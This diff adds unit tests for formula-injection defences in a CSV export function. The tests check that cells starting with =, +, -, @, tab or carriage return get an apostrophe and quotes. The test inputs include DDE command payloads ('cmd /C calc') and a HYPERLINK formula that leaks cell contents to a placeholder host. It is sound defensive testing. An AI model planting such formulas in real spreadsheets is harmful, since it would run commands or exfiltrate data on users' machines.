@@ -138,6 +138,56 @@ describe('CSV export', () => {
       { code: 'HES-3X2.5', quantity: '3', unit: 'KANGAL' },
     ]);
   });
+  /** The code's cell of a one-line list. */
+  const cellOf = (code: string) =>
+    listToCsv([{ code, quantity: 1, unit: 'ADET' }]).slice(
+      'Kod;Miktar;Birim\r\n'.length,
+      -';1;ADET\r\n'.length,
+    );
+
+  it.each([
+    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
+    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
+    ["+2+3+cmd|' /C calc'!A0", `"'+2+3+cmd|' /C calc'!A0"`],
+    ['-1+1', `"'-1+1"`],
+    ["@SUM(1+9)*cmd|' /C calc'!A0", `"'@SUM(1+9)*cmd|' /C calc'!A0"`],
+    [
+      '=HYPERLINK("http://x.example/?leak="&A1,"Tıkla")',
+      `"'=HYPERLINK(""http://x.example/?leak=""&A1,""Tıkla"")"`,
+    ],
+    ['\t=1+2', `"'\t=1+2"`],
+    ['\r=1+2', `"'\r=1+2"`],
+    ['-', `"'-"`],
+    ['-5e3', `"'-5e3"`],
+  ])('defuses the formula %j: an apostrophe first, quoted', (code, cell) => {
+    expect(cellOf(code)).toBe(cell);
+  });
+
+  it.each(['-5', '-2,5', '-1.234,56', '+7', '40', 'VK-1001'])(
+    'leaves %j as it is (a number, or no formula)',
+    (code) => {
+      expect(cellOf(code)).toBe(code);
+    },
+  );
+
+  it.each([
+    ["$& $` $' $1", "$& $` $' $1"],
+    ['<script>alert(1)</script>', '<script>alert(1)</script>'],
+    ['A\u0000B', 'A\u0000B'],
+    ['A\nB', '"A\nB"'],
+    ['A\r\nB', '"A\r\nB"'],
+    ['"-1"', '"""-1"""'],
+  ])('writes the hostile text %j as text', (code, cell) => {
+    expect(cellOf(code)).toBe(cell);
+  });
+
+  it('reads a defused cell back without its apostrophe', () => {
+    const codes = ['-2+3', '=X', '+1-1', '@A', "'quoted", 'VK-1001'];
+    const parsed = parseSheet(listToCsv(codes.map((code) => ({ code, quantity: 2, unit: 'ADET' }))));
+    expect(parsed.rows.map((row) => row.code)).toEqual(codes);
+  });
+
   it('names the file after the list', () => {
     expect(listFileName('Kadıköy Şantiyesi – Aylık')).toBe('kadikoy-santiyesi-aylik.csv');
     expect(listFileName('!!!')).toBe('liste.csv');
